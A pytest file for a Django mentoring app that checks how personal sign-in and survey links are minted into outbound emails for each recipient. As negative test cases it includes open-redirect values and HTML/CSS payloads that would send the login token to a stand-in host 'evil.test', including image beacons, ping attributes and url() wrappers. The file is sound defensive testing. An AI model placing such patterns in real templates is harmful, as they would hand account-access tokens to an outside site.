"""Personal links: the outbox holds placeholders, the worker mints each link at delivery
for the row's recipient alone (messaging/personal_links.py)."""

import re

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from medmentor.messaging import personal_links
from medmentor.messaging.models import OutboxMessage
from medmentor.messaging.personal_links import (
    PersonalLinkError,
    neutral_link,
    personal_link_placeholder,
    personal_links_expand,
    sign_in_placeholder,
)
from medmentor.messaging.services import RenderedEmail, outbox_deliver, outbox_enqueue
from medmentor.people.models import SignInLink
from medmentor.surveys.models import Invitation
from medmentor.surveys.services import invitation_token, invitations_create
from tests.conftest import received_text
from tests.surveys.conftest import make_survey

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_passwords")]

SIGN_IN_LINK = re.compile(r"https?://[^\s\"<>]+/sign-in/link/([^/\s\"<>]+)/(\?next=[^\s\"<>]*)?")


def row(person, text: str, html: str = "", *, key: str = "t:1") -> OutboxMessage:
    outbox_enqueue(
        email=RenderedEmail(
            key=key,
            to_email=person.email if person else "someone@lakeside.test",
            person_id=person.pk if person else None,
            subject="Hello",
            text_body=text,
            html_body=html,
            topic="program:1",
        )
    )
    return OutboxMessage.objects.select_related("person").get(key=key)


def test_a_sign_in_placeholder_becomes_a_link_that_signs_in_the_recipient(client, junior):
    placeholder = sign_in_placeholder(next_path="/programs/nm-must-see/this-week/")
    message = row(junior, f"Open {placeholder} today.", f'<a href="{placeholder}">open</a>')
    subject, text, html = personal_links_expand(message=message)

    found = SIGN_IN_LINK.search(text)
    assert found and found.group(2) == "?next=/programs/nm-must-see/this-week/"
    # The same link in both parts: one link minted, the row itself unchanged.
    assert found.group(0) in html
    assert SignInLink.objects.filter(person=junior).count() == 1
    assert OutboxMessage.objects.get(pk=message.pk).text_body == f"Open {placeholder} today."

    response = client.post("/" + found.group(0).split("://", 1)[1].split("/", 1)[1])
    assert response.status_code == 302
    assert response["Location"] == "/programs/nm-must-see/this-week/"
    assert client.session["_auth_user_id"] == str(junior.pk)


def test_each_delivery_mints_a_new_link_so_the_row_never_needs_one(junior):
    message = row(junior, sign_in_placeholder())
    first = personal_links_expand(message=message)[1]
    second = personal_links_expand(message=message)[1]
    assert first != second
    assert SignInLink.objects.filter(person=junior).count() == 2


def test_a_survey_placeholder_copied_into_another_persons_email_mints_nothing(
    program, junior, senior
):
    wave = make_survey(program).waves.get(kind="pre")
    invitations_create(wave=wave, people=[junior])
    invitation = Invitation.objects.get(person=junior)
    placeholder = personal_link_placeholder(kind="survey", ref=invitation.pk)

    own = personal_links_expand(message=row(junior, placeholder, key="t:own"))[1]
    copied = personal_links_expand(message=row(senior, placeholder, key="t:copied"))[1]

    assert own.endswith(
        reverse("survey-answer", kwargs={"token": invitation_token(invitation=invitation)})
    )
    assert copied == neutral_link()
    assert invitation_token(invitation=invitation) not in copied


def test_a_sign_in_placeholder_naming_someone_is_refused(junior, senior):
    forged = personal_link_placeholder(kind="sign-in", ref=senior.pk)
    assert personal_links_expand(message=row(junior, forged))[1] == neutral_link()
    assert not SignInLink.objects.exists()


def test_unknown_kinds_and_rows_without_an_active_person_get_the_neutral_link(junior):
    unknown = personal_link_placeholder(kind="no-such-kind", ref=7)
    assert personal_links_expand(message=row(junior, unknown, key="t:a"))[1] == neutral_link()
    nobody = row(None, sign_in_placeholder(), key="t:b")
    assert personal_links_expand(message=nobody)[1] == neutral_link()
    junior.is_active = False
    junior.save(update_fields=["is_active"])
    switched_off = row(junior, sign_in_placeholder(), key="t:c")
    assert personal_links_expand(message=switched_off)[1] == neutral_link()
    assert not SignInLink.objects.exists()
    assert neutral_link().endswith(reverse("sign-in"))


@pytest.mark.parametrize(
    "mangle",
    [
        str.upper,
        lambda link: link.replace("/personal-link/", ""),
        lambda link: link[:-3],
        lambda link: link.replace("/", "%2F"),
    ],
)
def test_a_mangled_placeholder_is_left_as_it_is_and_mints_nothing(junior, mangle):
    mangled = mangle(sign_in_placeholder())
    assert personal_links_expand(message=row(junior, f"see {mangled}"))[1] == f"see {mangled}"
    assert not SignInLink.objects.exists()


def test_a_next_path_to_another_site_is_dropped(junior):
    forged = sign_in_placeholder().rstrip("/") + "/?next=%2F%2Fevil.test%2F"
    text = personal_links_expand(message=row(junior, forged))[1]
    assert SIGN_IN_LINK.fullmatch(text) and "evil" not in text
    with pytest.raises(PersonalLinkError, match="kind"):
        personal_link_placeholder(kind="Sign In")
    with pytest.raises(PersonalLinkError, match="id"):
        personal_link_placeholder(kind="survey", ref="1/2")


def test_the_worker_delivers_the_minted_link_and_the_outbox_keeps_the_placeholder(
    junior, smtp_server
):
    placeholder = sign_in_placeholder()
    message = row(junior, f"Open {placeholder}", f'<p><a href="{placeholder}">open</a></p>')
    outbox_deliver(worker_name="test")
    (received,) = smtp_server.messages
    text = received_text(received)
    assert len(set(SIGN_IN_LINK.findall(text))) == 1  # text and HTML: the same one link
    assert placeholder not in text
    stored = OutboxMessage.objects.get(pk=message.pk)
    assert stored.status == "sent" and stored.text_body == f"Open {placeholder}"


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.test/collect?{}">',
        '<img src="https://evil.test/collect? {}">',
        '<a href="https://evil.test/go?u={}">open</a>',
        '<a ping="https://evil.test/ping" href="{}">open</a>',
        '<a title=\'href="{}"\' href="https://evil.test/">open</a>',
        '<a href="{}" title="{}">open</a>',
        "<style>p {{ background: url( {} ) }}</style>",
        '<p style="background:url({})">x</p>',
        '<!-- <a href="{}"> -->',
    ],
)
def test_a_link_wrapped_in_another_address_or_attribute_of_the_html_is_not_minted(junior, html):
    """A template must not hand the token to another site, e.g. in an image the mail
    program fetches when the email is opened: only <a href="placeholder"> is minted."""
    placeholder = sign_in_placeholder()
    source = html.format(placeholder, placeholder)
    assert personal_links_expand(message=row(junior, "", source))[2] == source
    assert not SignInLink.objects.exists()


@pytest.mark.parametrize(
    "text", ["https://evil.test/?u={}", "https://evil.test/{}", "x={}", "evil.test#{}"]
)
def test_a_link_glued_to_another_address_in_plain_text_is_not_minted(junior, text):
    source = text.format(sign_in_placeholder())
    assert personal_links_expand(message=row(junior, source))[1] == source
    assert not SignInLink.objects.exists()


def test_links_standing_on_their_own_are_minted_wherever_they_are_in_the_html(junior):
    placeholder = sign_in_placeholder()
    html = (
        "<p>Hello</p>\n<p>Two\nlines</p>"
        f'<p><a style="color:#0b5cad;" href="{placeholder}">Open</a></p>\n'
        f"<a\n  href='{placeholder}'\n>again</a>"
    )
    text = f"Open:\n{placeholder}\n({placeholder})"
    _, text_out, html_out = personal_links_expand(message=row(junior, text, html))
    links = set(SIGN_IN_LINK.findall(text_out + html_out))
    assert len(links) == 1 and placeholder not in text_out + html_out
    assert html_out.startswith("<p>Hello</p>\n<p>Two\nlines</p><p><a style=")


def test_a_minter_that_fails_leaves_no_trace_of_its_link_in_the_recorded_error(
    junior, smtp_server, caplog, monkeypatch
):
    def failing(*, person, ref):
        raise RuntimeError(f"cannot reverse /surveys/answer/SECRET{ref}TOKEN/")

    # Registered for this test only (the registry is the module's dict).
    monkeypatch.setitem(personal_links._minters, "failing-test", failing)  # noqa: SLF001
    message = row(junior, personal_link_placeholder(kind="failing-test", ref=1))
    outbox_deliver(worker_name="test")
    message.refresh_from_db()
    assert message.status == "gave_up"  # until staff press "Retry now"
    assert "failing-test link of this email could not be made (RuntimeError)" in (
        message.last_error
    )
    assert "SECRET" not in message.last_error + caplog.text
    assert not smtp_server.messages


def test_a_batchs_sign_in_links_are_written_in_one_insert_each_signing_in_its_recipient(
    junior, senior, smtp_server
):
    placeholder = sign_in_placeholder(next_path="/programs/nm-must-see/this-week/")
    for person, key in ((junior, "t:1"), (senior, "t:2"), (junior, "t:3")):
        row(person, f"Open {placeholder}", f'<p><a href="{placeholder}">open</a></p>', key=key)

    with CaptureQueriesContext(connection) as queries:
        stats = outbox_deliver(worker_name="test")

    assert stats.sent == 3
    link_inserts = [q for q in queries if q["sql"].startswith('INSERT INTO "people_signinlink"')]
    assert len(link_inserts) == 1
    links = {}
    for received in smtp_server.messages:
        found = {match.group(0) for match in SIGN_IN_LINK.finditer(received_text(received))}
        assert len(found) == 1  # text and HTML: the same one link
        links[received["Message-ID"]] = (received["To"], found.pop())
    assert len({link for _, link in links.values()}) == 3  # junior's two emails: two links
    for to, link in links.values():
        signed_in = Client()
        response = signed_in.post("/" + link.split("://", 1)[1].split("/", 1)[1])
        assert response.status_code == 302
        expected = junior if junior.email in to else senior
        assert signed_in.session["_auth_user_id"] == str(expected.pk)
    assert OutboxMessage.objects.filter(text_body=f"Open {placeholder}").count() == 3
